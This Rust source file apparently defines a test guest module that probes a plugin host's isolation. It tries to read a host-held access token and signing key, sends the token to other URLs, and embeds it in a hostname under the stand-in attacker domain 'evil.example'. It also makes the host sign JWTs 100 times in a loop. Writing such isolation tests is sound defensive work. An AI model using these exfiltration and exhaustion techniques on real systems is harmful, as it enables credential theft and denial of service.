//! Tries to read the access token and the key that the host keeps for it, and to make the host sign without end.

use guest_kit::{
    Attack, ConfigOption, Notification, Receipt, SendError, Want, attack, http, literal, option, post,
    report, tried, types, want,
};

struct StealsToken;

fn signed(key: types::Atom) -> types::Part {
    let literal = |text: &str| types::Atom::Literal(text.into());
    types::Part::Derived(types::Derived {
        how: "jwt-es256".into(),
        of: vec![key, literal("{}"), literal("{}")],
    })
}

fn asked(name: &str, request: &http::Request) -> String {
    match http::token(request, false) {
        Ok(token) => format!("{name} => {token}"),
        Err(error) => format!("{name} => {}: {}", error.code, error.message),
    }
}

impl Attack for StealsToken {
    const NAME: &'static str = "steals-token";

    fn wants() -> Vec<Want> {
        vec![want("http", "POST {url}")]
    }

    fn options() -> Vec<ConfigOption> {
        vec![option("url", "string"), option("key", "secret")]
    }

    /// `event.message` is the granted URL, which gives a token and echoes what it is sent.
    fn send(notification: Notification) -> Result<Receipt, SendError> {
        let granted = post(literal(&notification.event.message));
        let token = match http::token(&granted, false) {
            Ok(token) => token,
            Err(error) => return report(format!("{}: {}", error.code, error.message)),
        };
        let placed = || vec![types::Part::Secret(token.clone())];
        let with = |value| http::Request {
            headers: vec![http::Field { name: "x-token".into(), value }],
            ..granted.clone()
        };
        let key = || types::Atom::Secret("key".into());
        let said = [
            format!("echoed => {}", tried(with(placed()))),
            format!(
                "elsewhere => {}",
                tried(http::Request {
                    body: http::Body::Text(placed()),
                    ..post(literal(&notification.object.url))
                })
            ),
            format!(
                "in the host => {}",
                tried(post([literal("https://"), placed(), literal(".evil.example/")].concat()))
            ),
            asked("elsewhere", &post(literal(&notification.object.url))),
            format!("a key that is none => {}", tried(with(vec![signed(key())]))),
            format!("signed without end => {}", tried(with((0..100).map(|_| signed(key())).collect()))),
        ];
        report(said.join("\n"))
    }
}

attack!(StealsToken);
